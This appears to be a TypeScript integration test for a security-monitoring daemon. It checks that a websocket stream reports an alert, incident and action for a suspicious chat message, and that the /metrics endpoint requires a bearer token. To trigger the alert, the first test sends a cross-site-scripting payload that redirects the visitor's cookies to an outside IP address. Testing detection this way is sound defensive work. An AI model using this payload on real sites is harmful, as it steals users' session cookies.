import { strict as assert } from 'node:assert';
import type { StreamMessage } from '../../../daemon/src/protocol/stream';
import { openStream, startTestDaemon, type TestDaemon } from '../../helpers/test-daemon';

describe('live stream against the real daemon', () => {
  let d: TestDaemon;
  before(async () => {
    d = await startTestDaemon();
  });
  after(async () => {
    await d.stop();
  });

  it('a ws client receives the alert for a message before the HTTP response of the next one', async () => {
    const received: { msg: StreamMessage; at: number }[] = [];
    const ws = await openStream(d, (msg) => received.push({ msg, at: performance.now() }));
    const first = await d.api('POST', '/api/chat', { message: '<script>document.location="https://203.0.113.5/?c="+document.cookie</script>', session_id: 'ws-order' });
    assert.equal(first.status, 200);
    const secondResponseAt = await d.api('POST', '/api/chat', { message: 'What is the capital of Portugal?' }).then(() => performance.now());
    const alert = received.find((r) => r.msg.type === 'alert');
    assert.ok(alert, `no alert on the stream; got ${received.map((r) => r.msg.type).join(',')}`);
    assert.ok(alert.at < secondResponseAt, 'alert arrived after the next HTTP response');
    const types = received.map((r) => r.msg.type);
    assert.ok(types.includes('incident') && types.includes('action'), types.join(','));
    ws.close();
  });

  it('the dashboard page and /metrics need authentication; metrics report scanned traffic', async () => {
    const anon = await fetch(d.url + '/metrics');
    assert.equal(anon.status, 401);
    const m = await fetch(d.url + '/metrics', { headers: { authorization: `Bearer ${d.token}` } });
    assert.equal(m.status, 200);
    const text = await m.text();
    assert.match(text, /^# HELP /m);
    assert.match(text, /soc_/);
  });
});
